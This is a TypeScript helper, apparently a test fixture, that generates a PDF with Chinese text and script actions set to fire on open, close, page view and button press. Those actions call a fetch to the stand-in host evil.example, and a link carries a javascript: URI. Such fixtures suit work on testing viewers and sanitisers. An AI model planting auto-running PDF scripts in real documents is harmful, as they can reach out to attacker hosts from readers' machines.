const encoded = (text: string): string =>
  [...text].map((char) => (char.codePointAt(0) ?? 0).toString(16).padStart(4, '0')).join('')

/**
 * 恶意 PDF A page that would run a script when it is opened, shown, closed or pressed, and fetch from elsewhere. Its Chinese
 * is in a font that is not in the file, so that a character map is needed to draw it.
 */
export function hostilePdf(lines: readonly string[]): Uint8Array {
  const content = lines
    .map((line, at) => `BT /F1 12 Tf 60 ${760 - 24 * at} Td <${encoded(line)}> Tj ET`)
    .join('\n')
  const script = '<< /S /JavaScript /JS (app.alert\\("run"\\); fetch\\("http://evil.example/"\\)) >>'
  const bodies = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >>
      /Names << /JavaScript << /Names [(run) ${script}] >> >> /AcroForm << /Fields [8 0 R] >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O ${script} >>
      /Annots [8 0 R 9 0 R] /Resources << /Font << /F1 5 0 R >> >> >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [6 0 R] >>',
    `<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /DW 1000 /FontDescriptor 7 0 R
      /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> >>`,
    `<< /Type /FontDescriptor /FontName /STSong-Light /Flags 4 /FontBBox [0 -120 1000 880] /ItalicAngle 0
      /Ascent 880 /Descent -120 /CapHeight 880 /StemV 80 >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (run) /Rect [60 60 160 90] /A ${script} >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
  ]
  let text = '%PDF-1.6\n'
  const offsets = bodies.map((body, at) => {
    const offset = text.length
    text += `${at + 1} 0 obj\n${body}\nendobj\n`
    return `${String(offset).padStart(10, '0')} 00000 n \n`
  })
  const start = text.length
  text += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${offsets.join('')}`
  text += `trailer << /Size ${bodies.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`
  return new TextEncoder().encode(text)
}
